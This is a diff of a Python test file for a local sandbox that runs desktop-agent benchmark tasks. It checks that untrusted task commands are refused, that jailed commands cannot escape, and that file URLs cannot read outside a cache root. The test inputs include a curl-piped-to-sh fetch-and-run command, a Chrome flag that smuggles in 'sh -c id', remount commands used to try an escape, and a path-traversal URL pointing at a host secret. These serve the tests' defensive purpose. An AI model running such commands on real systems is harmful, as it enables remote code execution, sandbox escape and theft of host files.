@@ -85,7 +85,7 @@ def test_what_counts_as_a_task_command() -> None:
         "command": "curl -s http://example.com/x.sh | sh", "shell": True}}])
     assert "curl -s http://example.com/x.sh | sh" in str(local_reason(infeasible))
     assert local_reason(infeasible, trust_commands=True) is None
-    assert "would run a program" in str(local_reason(task_with({"func": "infeasible"}, [
+    assert "not on the allow-list" in str(local_reason(task_with({"func": "infeasible"}, [
         {"type": "launch", "parameters": {"command": ["google-chrome", "--renderer-cmd-prefix=sh -c id"]}}])))
 
 
@@ -160,7 +160,7 @@ def test_trusted_commands_run_jailed(tmp_path: Path, host_server: str,
     assert wrote is not None and (machine.home / "in-home.txt").read_text() == "hi\n"
     assert not (outside / "x").exists()  # /tmp is a private tmpfs in the jail: the host's is untouched
     assert wrote.output.split()[-1] == "0"  # the real home is hidden
-    ro = machine.run(["touch", str(Path(jail.__file__))])
+    ro = machine.run(["touch", "/usr/bin/env"])  # an existing file outside /tmp wherever the checkout is
     assert ro is not None and ro.returncode != 0 and "Read-only file system" in ro.error
     escape = machine.run("umount /tmp || mount -o remount,rw /", shell=True)
     assert escape is not None and escape.returncode != 0
@@ -250,13 +250,15 @@ def test_file_urls_are_read_only_from_the_cache_root(tmp_path: Path) -> None:
     secret = tmp_path / "secret.txt"
     secret.write_text("host secret")
 
-    assert find_download(gold.as_uri(), "/home/user/gold.txt", [task_cache]) == gold.resolve()
-    assert find_download(secret.as_uri(), "/home/user/s.txt", [task_cache]) is None
-    assert find_download(f"file://{root}/../secret.txt", "/home/user/s.txt", [task_cache]) is None
-    assert find_download(gold.as_uri(), "/home/user/gold.txt", []) is None  # no cache: nothing local
+    assert find_download(gold.as_uri(), "/home/user/gold.txt", [task_cache], root) == gold.resolve()
+    assert find_download(secret.as_uri(), "/home/user/s.txt", [task_cache], root) is None
+    assert find_download(f"file://{root}/../secret.txt", "/home/user/s.txt", [task_cache], root) is None
+    assert find_download(gold.as_uri(), "/home/user/gold.txt", [], None) is None  # no cache: nothing local
+    # The root is the configured one, never the parent of a (task-named) cache folder.
+    assert find_download(secret.as_uri(), "/home/user/s.txt", [tmp_path / "x"], None) is None
 
     machine = LocalMachine(tmp_path / "sandbox", display=None)
-    ctx = GetterContext(machine, task_cache, None, no_display, (1920, 1080))
+    ctx = GetterContext(machine, task_cache, None, no_display, (1920, 1080), root)
     got = LOCAL_GETTERS["cloud_file"](ctx, {"type": "cloud_file", "path": gold.as_uri(), "dest": "g.txt"})
     assert Path(got).read_text() == "gold"
     with pytest.raises(SandboxPathError, match="outside the OSWorld cache root"):
